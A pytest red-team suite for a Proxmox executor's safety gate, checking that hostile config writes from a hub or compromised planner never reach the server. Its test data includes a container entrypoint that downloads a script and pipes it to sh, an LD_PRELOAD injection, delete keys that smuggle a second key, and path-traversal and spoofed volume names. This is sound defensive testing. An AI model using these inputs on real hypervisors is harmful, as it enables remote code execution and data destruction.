"""Red team of the grammar gate (issue 13 items 1-3; docs/SAFETY.md §2.2, §12 rows 42-54).

Real requests: a hub's or a compromised planner's tick, or a signed op through the real OpDesk, against
fakepve over HTTPS; each test counts what fakepve received. The ``test_h*``/``test_l*`` tests are holes the
red team found: each failed when found and passes since its fix. The plain tests are what held.
"""

from __future__ import annotations

import json
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from executor.loop.desired import Declared
from executor.loop.engine import Engine
from executor.pve.node import PveError
from executor.pve.write import ProxmoxWriter
from planner.v1 import planner_pb2 as pb
from safety import grammar
from safety.classify import Action, Class, GuestFacts, Source, classify
from safety.refusal import Refused
from tests.executor_helpers import unused_port
from tests.planner_standins import ScriptedPlanner, scripted_planner, served
from tests.signed_helpers import Daemon, add_vm, mutations, open_desk, run_command

Make = Callable[..., Engine]
QEMU, LXC = pb.GUEST_TYPE_QEMU, pb.GUEST_TYPE_LXC
A, B, D = Class.APPROVAL, Class.BENIGN, Class.DESTRUCTIVE
BACKUP_OF_500 = "local:backup/vzdump-qemu-500-2026_12_01-00_00_00.vma.zst"


def write(vmid: int, values: dict[str, str], delete: tuple[str, ...] = (), *,
          kind: pb.GuestType.ValueType = QEMU) -> pb.Action:
    """A SetConfig action the planner (or the planner a hub drives) returns."""
    return pb.Action(vmid=vmid, type=kind, set_config=pb.SetConfigAction(set=values, delete=delete))


def hub_tick(make_engine: Make, declared: list[Declared], actions: list[pb.Action],
             source: Source = Source.HUB) -> Any:
    """One tick whose planner answers ``actions`` for a desired state from ``source``."""
    with scripted_planner([pb.PlanResponse(actions=actions)]) as target:
        return make_engine(declared, planner_target=target, source=source).tick(wait=True)


def verdict(guest_type: str, values: dict[str, str], config: dict[str, str], vmid: int = 100) -> tuple[Class, str]:
    """(class, op kind) of a hub's config write."""
    action = Action(kind="set_config", vmid=vmid, guest_type=guest_type, set=values)
    found = classify(action, GuestFacts(config=config, digest="d"), Source.HUB)
    return found.cls, found.op_kind


# ================================================================================================
# Holes the red team found (each failed when found, passes since its fix); H6b stays open (a design question).
# ================================================================================================

# --- H1: content volumes (backup/, snippets/, vztmpl/) read as "shared" and attach as APPROVAL ----

CONTENT_AS_DISK = {
    "guest 500's backup archive": BACKUP_OF_500,  # another guest's data, and a recovery point the guest can overwrite
    "a hook script snippet": "local:snippets/hook.pl",  # written by the guest, run as root on the host by PVE
    "a container template": "local:vztmpl/debian-12-standard_12.7-1_amd64.tar.zst",  # every new CT runs it
}


@pytest.mark.parametrize("case", sorted(CONTENT_AS_DISK))
def test_h1_one_operator_key_cannot_attach_content_volumes_as_a_writable_disk(case: str, fakepve: Any,
                                                                              make_engine: Make,
                                                                              tmp_path: Path) -> None:
    """alice alone (operator: APPROVAL, threshold 1) proposes and runs ``scsi5: <content volume>`` on guest 100.
    A backup of guest 500 is guest 500's data (PVE's volume grammar names its owner, ``vzdump-qemu-500-``), and
    attached read-write the guest can read it and overwrite the recovery point; a snippet attached read-write is
    rewritten by the guest and then run by PVE as root (``hookscript: local:snippets/hook.pl`` of guest 500); a
    template is unpacked into every container made from it. Each is at least a DESTRUCTIVE effect (another
    guest's volume, host code): ProposeOp must not build it as an attach, and fakepve must receive nothing."""
    add_vm(fakepve, 100)
    add_vm(fakepve, 500, disks=1, hookscript="local:snippets/hook.pl")
    desk = open_desk(make_engine, tmp_path)
    values = {"scsi5": CONTENT_AS_DISK[case]}
    before = len(fakepve.requests)
    try:
        proposal = desk.propose(100, "config.disk_attach", set=values)
    except Refused:
        proposal = None
    if proposal is not None:
        desk.run(desk.sign(proposal, "alice", role="operator"))
    assert mutations(fakepve, before) == []
    assert "scsi5" not in fakepve.vm(100).config


@pytest.mark.parametrize(("before", "after"), [
    ("local:iso/debian.iso,media=cdrom", f"{BACKUP_OF_500},media=disk"),
    ("local:iso/debian.iso,media=cdrom", "local:snippets/hook.pl,media=disk"),
])
def test_h1b_a_medium_swap_to_a_content_volume_is_not_a_media_change(before: str, after: str) -> None:
    """``_over`` treats {shared, none} as interchangeable media; a backup or a snippet is not a medium."""
    assert verdict("qemu", {"ide2": after}, {"ide2": before})[0] is D


# --- H1c: a traversal PVE's dir plugin refuses is read as shared content --------------------------

@pytest.mark.parametrize("value", ["local:iso/../images/500/vm-500-disk-0.qcow2",
                                   "local:snippets/../images/500/vm-500-disk-0.qcow2",
                                   "local:import/../500/vm-500-disk-0.qcow2"])
def test_h1c_a_content_path_that_climbs_out_is_not_shared(value: str) -> None:
    """PVE's ``parse_volname`` reads ``iso/<file>``, ``snippets/<file>`` with no ``/`` in ``<file>``: any other
    name is one the grammar cannot place, and unknown is destructive (fail closed), never an APPROVAL attach."""
    assert grammar.volume(value).kind != "shared"
    assert verdict("qemu", {"scsi5": value}, {})[0] is D


# --- H2: a key the table matches but the schema does not (scsi01) crashes the tick ---------------

def test_h2_a_zero_padded_disk_key_from_a_compromised_planner_does_not_stop_the_node(fakepve: Any,
                                                                                    make_engine: Make) -> None:
    """The root-owned file declares guest 101's description only; a compromised planner adds ``scsi01`` for
    guest 100, which nothing declares. The gate classifies before it checks scope, so the Disk rule runs on a key
    PVE's schema does not have (``grammar.parse`` gives None, ``new['file']`` raises). Expected: that step is
    refused (out of scope, or unreadable) and guest 101's write still runs. Found: the tick raises, nothing runs;
    in the daemon (``while not stop.is_set(): engine.tick()``) the exception ends the process, on every restart."""
    fakepve.add_vm(100, "db", status="stopped", config={"scsi0": "local-lvm:vm-100-disk-0,size=4G"})
    fakepve.add_vm(101, "web", status="stopped", config={"description": "old"})
    declared = [Declared(vmid=100, config={"cores": "2"}), Declared(vmid=101, config={"description": "new"})]
    summary = hub_tick(make_engine, declared, [write(100, {"scsi01": "local-lvm:vm-100-disk-0"}),
                                               write(101, {"description": "new"})], source=Source.LOCAL_FILE)
    assert [(r.vmid, r.reason) for r in summary.refusals] == [(100, "OUT_OF_SCOPE")]
    assert fakepve.vm(101).config["description"] == "new"


def test_h2_the_daemon_outlives_a_planner_that_sends_an_odd_disk_key(fakepve: Any, fakepve_cafile: str,
                                                                     tmp_path: Path) -> None:
    """``pve-executor run`` with a root-owned file declaring ``cores`` of 100 and the description of 101; the
    planner adds ``scsi01`` for 100. Expected: the daemon keeps running and writes 101's description. Found: the
    traceback ends the process before any write (``while not stop.is_set(): engine.tick()`` has no guard)."""
    fakepve.add_vm(100, "db", status="stopped", config={"scsi0": "local-lvm:vm-100-disk-0,size=4G"})
    fakepve.add_vm(101, "web", status="stopped", config={"description": "old"})
    desired = tmp_path / "desired.yaml"
    desired.write_text("guests:\n  - vmid: 100\n    config: {cores: 2}\n"
                       "  - vmid: 101\n    description: new\n")  # config.description is refused at load
    desired.chmod(0o644)
    actions = [write(100, {"scsi01": "local-lvm:vm-100-disk-0"}), write(101, {"description": "new"})]
    with served(ScriptedPlanner([pb.PlanResponse(actions=actions)])) as planner_port:
        command = run_command(fakepve, fakepve_cafile, planner_port, tmp_path, "--desired", str(desired))
        command[command.index("--interval") + 1] = "1"
        with Daemon(command, unused_port()) as daemon:
            deadline = time.monotonic() + 20
            while daemon.child.poll() is None and fakepve.vm(101).config.get("description") != "new":
                assert time.monotonic() < deadline, "neither a write nor an exit"
                time.sleep(0.05)
            assert daemon.child.poll() is None, "the daemon exited"
    assert fakepve.vm(101).config["description"] == "new"


def test_h2b_a_key_outside_pves_schema_is_never_benign() -> None:
    """``key_spec`` says net01 is no key of PVE's; the key table's regex says it is a NIC. The schema must win."""
    assert grammar.key_spec("qemu", "net01") is None
    assert verdict("qemu", {"net01": "virtio=BC:24:11:00:00:09,bridge=vmbr9"}, {}) != (B, "config")


# --- H3: an LXC device node of a host disk is APPROVAL; the same disk as a mount point DESTRUCTIVE --

@pytest.mark.parametrize("value", ["/dev/sda", "path=/dev/nvme0n1", "/dev/mapper/pve-vm--500--disk--0"])
def test_h3_a_host_block_device_in_a_container_is_destructive(value: str, fakepve: Any, make_engine: Make) -> None:
    """A hub declares ``dev0`` for its container. As ``mp0: /dev/sda,mp=/x`` the gate says DESTRUCTIVE (a host
    path); as ``dev0: /dev/sda`` (read-write by default, ``deny-write=0``) it lists an APPROVAL, which one
    operator key grants. The pending approval must carry DESTRUCTIVE."""
    fakepve.add_ct(200, "ct", status="stopped", config={"hostname": "ct", "rootfs": "local-lvm:vm-200-disk-0,size=8G"})
    assert verdict("lxc", {"mp0": "/dev/sda,mp=/x"}, {}, vmid=200)[0] is D  # the same disk, spelled as a mount
    summary = hub_tick(make_engine, [Declared(vmid=200, config={"dev0": value})],
                       [write(200, {"dev0": value}, kind=LXC)])
    assert mutations(fakepve) == []
    assert [(r.vmid, r.cls) for r in summary.refusals] == [(200, D)]


# --- H4: code in the guest without credentials: LXC entrypoint / env are BENIGN ------------------

@pytest.mark.parametrize(("key", "value"), [
    ("entrypoint", "/bin/sh -c 'wget -qO- http://hub.example/x | sh; exec /sbin/init'"),
    ("env", "LD_PRELOAD=/tmp/x.so"),
])
def test_h4_a_hub_cannot_give_itself_code_in_a_container(key: str, value: str, fakepve: Any,
                                                         make_engine: Make) -> None:
    """A hub that may not set ``ciuser``/``sshkeys`` (APPROVAL) sets the container's init command instead: its
    code runs as the container's root at the next start (the hub may start it, a benign power step). fakepve
    must receive no write without an approval."""
    fakepve.add_ct(200, "ct", status="stopped", config={"hostname": "ct", "rootfs": "local-lvm:vm-200-disk-0,size=8G"})
    summary = hub_tick(make_engine, [Declared(vmid=200, config={key: value})], [write(200, {key: value}, kind=LXC)])
    assert mutations(fakepve) == []
    assert [r.reason for r in summary.refusals] == ["APPROVAL_REQUIRED"]


# --- H5: boot from the network the hub controls ------------------------------------------------

def test_h5_a_hub_cannot_netboot_a_guest_into_its_own_image(fakepve: Any, make_engine: Make) -> None:
    """Guest 100 boots from scsi0. The hub declares ``boot: order=net0`` and moves net0 (MAC kept, firewall kept)
    to a bridge it serves DHCP/TFTP on, and ``running``: all benign, no key. At the start the guest runs the hub's
    PXE image, which reads or wipes scsi0. A boot order that puts a non-disk device first needs approval."""
    mac = "BC:24:11:00:00:01"
    add_vm(fakepve, 100, disks=1, boot="order=scsi0", net0=f"virtio={mac},bridge=vmbr0")
    net0 = f"virtio={mac},bridge=vmbr9"
    declared = [Declared(vmid=100, config={"boot": "order=net0", "net0": net0})]
    summary = hub_tick(make_engine, declared, [write(100, {"boot": "order=net0", "net0": net0})])
    assert mutations(fakepve) == []
    assert [r.reason for r in summary.refusals] == ["APPROVAL_REQUIRED"]


# --- H6: a new NIC is benign whatever MAC it pins, and whatever firewall the guest's NICs have ----

def test_h6_a_hub_cannot_clone_another_guests_mac_on_a_new_nic(fakepve: Any, make_engine: Make) -> None:
    """Guest 500's NIC has MAC M (its DHCP reservation, its firewall ipset, its licence). A hub adds ``net1`` with
    MAC M to guest 100: guest 100 answers for 500 on the segment. Changing a MAC is ``config.nic_identity``;
    pinning another guest's MAC on a new NIC is the same effect and must need the same approval."""
    mac = "BC:24:11:00:05:00"
    add_vm(fakepve, 100, disks=1, net0="virtio=BC:24:11:00:01:00,bridge=vmbr0,firewall=1")
    add_vm(fakepve, 500, disks=1, net0=f"virtio={mac},bridge=vmbr0,firewall=1")
    net1 = f"virtio={mac},bridge=vmbr0,firewall=1"
    summary = hub_tick(make_engine, [Declared(vmid=100, config={"net1": net1})], [write(100, {"net1": net1})])
    assert mutations(fakepve) == []
    assert [(r.op_kind, r.cls) for r in summary.refusals] == [("config.nic_identity", A)]


def test_h6b_a_new_unfiltered_nic_beside_a_firewalled_one_needs_approval() -> None:
    """Row 53's twin: ``firewall`` 1→0 on net0 is ``config.nic_firewall_off``; adding net1 on the same bridge with
    no firewall gives the guest the same unfiltered path (spoofed IPs and MACs), so it must need the same key."""
    config = {"net0": "virtio=BC:24:11:00:01:00,bridge=vmbr0,firewall=1"}
    assert verdict("qemu", {"net1": "virtio,bridge=vmbr0"}, config) == (A, "config.nic_firewall_off")


# --- L3: a delete key PVE splits (``;``, white space, NUL) is one unknown key to us ----------------

@pytest.mark.parametrize("key", ["description;scsi0", "description scsi0", "description\tscsi0",
                                 "description\x00scsi0"])
def test_l3_the_writer_refuses_a_delete_key_that_pve_splits(key: str, fakepve: Any, node: Any) -> None:
    """The writer's own last line of defence, called as the lane calls it: the delete must never be sent. PVE's
    update_vm reads ``delete`` with ``PVE::Tools::split_list`` and detaches scsi0; fakepve's QEMU and LXC config
    calls split on ``,`` only (a fidelity gap of the fake: its own ``formats.split_list`` is PVE's), so here the
    write is sent and ignored instead of detaching."""
    add_vm(fakepve, 100, disks=1, description="x")
    writer = ProxmoxWriter(node.session)
    before = len(fakepve.requests)
    with pytest.raises(PveError, match=r"parameter|key"):
        writer.set_config("qemu", 100, {}, [key], "")
    assert mutations(fakepve, before) == []
    assert "scsi0" in fakepve.vm(100).config


# --- L1, L2: the grammar reads two things otherwise than PVE (no class is lowered by them today) -------

def test_l1_an_lxc_mount_points_backup_flag_is_off_when_absent() -> None:
    """A QEMU drive is backed up unless ``backup=0``; an LXC volume mount point only with ``backup=1``. The scope
    merge takes ``mp0: ...,backup=1`` and ``mp0: ...`` for one meaning, so a planner's write that drops a declared
    ``backup=1`` (the mount point leaves every backup) is in scope; today only the disk rule's APPROVAL stops it."""
    assert grammar.field_default("qemu:scsi[n]", "backup") == "1"
    assert grammar.field_default("lxc:mp[n]", "backup") == "0"


def test_l2_a_volume_owner_is_ascii_digits_only() -> None:
    """Arabic-Indic one-zero-zero (U+0661 U+0660 U+0660) is read as vmid 100 (own volume: an APPROVAL attach);
    PVE's storage code compares owners numerically and Perl numifies the name to 0: not guest 100's. Use [0-9]."""
    assert grammar.volume("local-lvm:vm-\u0661\u0660\u0660-disk-0").kind == "unknown"
    assert grammar.volume("local:\uff11\uff10\uff10/x.qcow2").kind == "unknown"  # fullwidth 100/


# ================================================================================================
# What held (kept as the instructive passing cases)
# ================================================================================================

PROPERTY_STRING_TRICKS = [
    "FILE=local-lvm:vm-500-disk-0",  # field names are case-sensitive in PVE: unknown field
    " file=local-lvm:vm-500-disk-0",  # a space in the field name: unknown field
    "file =local-lvm:vm-500-disk-0",
    "local-lvm:vm-500-disk-0,",  # trailing comma: PVE skips the empty token, the volume is still guest 500's
    ",,volume=local-lvm:vm-500-disk-0,,",
    "file=local-lvm:vm-100-disk-9,volume=local-lvm:vm-500-disk-0",  # PVE keeps the last; we refuse both
    "local-lvm:vm-100-disk-9,file=local-lvm:vm-500-disk-0",
    "file=0,local-lvm:vm-500-disk-0",  # Perl's !$res->{file} on "0": PVE takes the bare token; we refuse
    "local-lvm%3Avm-500-disk-0",  # percent-encoding is not decoded: no volume PVE knows
    "local-lvm:vm-500-disk-0\u200b",  # zero-width space: still named vm-500-
    "local-lvm:vm-0500-disk-0",  # leading zero: PVE's owner 500 numerically
    "local-lvm:vm-100-disk-0/../vm-500-disk-0",  # two owners in one name
    "local:100/vm-500-disk-0.qcow2",
    "local-lvm:1,import-from=local-lvm:vm-500-disk-0",
    "x" * 9000,  # longer than PVE's longest value
]


@pytest.mark.parametrize("value", PROPERTY_STRING_TRICKS)
def test_held_property_string_tricks_from_a_hub_never_reach_proxmox(value: str, fakepve: Any,
                                                                   make_engine: Make) -> None:
    """A hub declares a disk for guest 100 in every spelling we could find that PVE (or its Perl) reads as guest
    500's volume or refuses: each is DESTRUCTIVE (a foreign or unknown volume, or unreadable) and fakepve
    receives nothing."""
    add_vm(fakepve, 100, disks=1)
    add_vm(fakepve, 500, disks=1)
    summary = hub_tick(make_engine, [Declared(vmid=100, config={"scsi5": value})], [write(100, {"scsi5": value})])
    assert mutations(fakepve) == []
    # An unreadable declared value is not even in scope (it cannot be laid over the actual one): refused either way.
    assert [(r.reason in {"APPROVAL_REQUIRED", "OUT_OF_SCOPE"}, r.cls) for r in summary.refusals] == [(True, D)]


@pytest.mark.parametrize(("values", "delete"), [
    ({"cdrom": "local:iso/b.iso"}, ()),  # over an ide2 hard disk: a swap
    ({}, ("cdrom",)),  # deletes ide2
    ({"cdrom": "none", "ide2": "local-lvm:vm-100-disk-0"}, ()),  # two spellings of ide2 in one write
    ({"cdrom": "local:iso/b.iso"}, ("ide2",)),  # a write and a delete of the same key, under two names
])
def test_held_cdrom_is_ide2_in_every_combination(values: dict[str, str], delete: tuple[str, ...], fakepve: Any,
                                                 make_engine: Make) -> None:
    """The ``cdrom`` alias never lowers a write or a delete of ide2 (a hard disk here) below DESTRUCTIVE."""
    add_vm(fakepve, 100, disks=1, ide2="local-lvm:vm-100-disk-3,size=4G")
    declared = [Declared(vmid=100, config={**values, **dict.fromkeys(delete, "")})]
    summary = hub_tick(make_engine, declared, [write(100, values, delete)])
    assert mutations(fakepve) == []
    assert [r.cls for r in summary.refusals] == [D]
    assert fakepve.vm(100).config["ide2"].startswith("local-lvm:vm-100-disk-3")


@pytest.mark.parametrize("net0", [
    "virtio=BC:24:11:00:00:01,bridge=vmbr0,firewall=0,tag=10",
    "virtio=BC:24:11:00:00:01,bridge=vmbr0,firewall=No,tag=10",
    "virtio=BC:24:11:00:00:01,bridge=vmbr0,firewall=OFF,tag=10",
    "model=virtio,macaddr=bc:24:11:00:00:01,bridge=vmbr0,tag=10",  # the long spelling, firewall left out
])
def test_held_a_hub_cannot_lower_a_nics_firewall_in_any_spelling(net0: str, fakepve: Any, make_engine: Make) -> None:
    """Every PVE boolean spelling of off, and the firewall simply left out, is ``config.nic_firewall_off``."""
    add_vm(fakepve, 100, disks=1, net0="virtio=BC:24:11:00:00:01,bridge=vmbr0,firewall=1,tag=10")
    summary = hub_tick(make_engine, [Declared(vmid=100, config={"net0": net0})], [write(100, {"net0": net0})])
    assert mutations(fakepve) == []
    assert [(r.op_kind, r.cls) for r in summary.refusals] == [("config.nic_firewall_off", A)]


def test_held_a_role_cannot_launder_other_kinds_through_the_strictest_key(fakepve: Any, make_engine: Make,
                                                                          tmp_path: Path) -> None:
    """An op is named after its first strictest key: ``ide0`` (an attach the operator may sign) sorts before
    ``net0`` (firewall off), ``smbios1`` (identity), ``sshkeys`` (credentials), ``usb0`` (a host device), so the
    proposal is a ``config.disk_attach`` of class APPROVAL. The lane asks every key's kind of the role
    (``role_covers_keys``) and refuses; nothing reaches fakepve."""
    add_vm(fakepve, 100, disks=1, net0="virtio=BC:24:11:00:00:01,bridge=vmbr0,firewall=1")
    desk = open_desk(make_engine, tmp_path)
    values = {"ide0": "local-lvm:4", "net0": "virtio=BC:24:11:00:00:01,bridge=vmbr0,firewall=0",
              "smbios1": "uuid=00000000-0000-4000-8000-000000000999", "sshkeys": "ssh-ed25519%20AAAAC3Nz%20hub",
              "usb0": "host=1234:5678"}
    proposal = desk.propose(100, "config.disk_attach", set=values)
    assert json.loads(proposal.action)["class"] == "APPROVAL"
    before = len(fakepve.requests)
    _, refusal = desk.run(desk.sign(proposal, "alice", role="operator"))
    assert refusal is not None and refusal.reason == "ROLE_DENIES"
    assert mutations(fakepve, before) == []


@pytest.mark.parametrize(("key", "value"), [
    ("mp0", "volume=/,mp=/host"),  # the host's root, by the alias-free long spelling
    ("mp0", "mp=/x,volume=/srv/other-tenant"),  # field order swapped
    ("mp0", "/dev/../dev/sda,mp=/x"),
    ("mp0", "local-zfs:subvol-500-disk-0,mp=/x,ro=1"),  # another guest's volume, read-only is still its data
    ("mp0", "local:500/subvol-500-disk-0.subvol,mp=/x"),
    ("mp0", "local-zfs:basevol-500-disk-0/subvol-500-disk-1,mp=/x"),
    ("mp0", "local-zfs:subvol-200-disk-9/../subvol-500-disk-0,mp=/x"),
    ("rootfs", "/,size=8G"),
    ("mp0", "local-zfs:subvol-200-disk-1,mp=/x,volume=/srv"),  # two spellings of the volume: unreadable
])
def test_held_lxc_mount_points_of_the_host_or_another_guest_are_destructive(key: str, value: str) -> None:
    """Bind mounts, device mounts and other guests' subvolumes, in the spellings PVE's mp format allows."""
    assert verdict("lxc", {key: value}, {"rootfs": "local-zfs:subvol-200-disk-0,size=8G"}, vmid=200)[0] is D
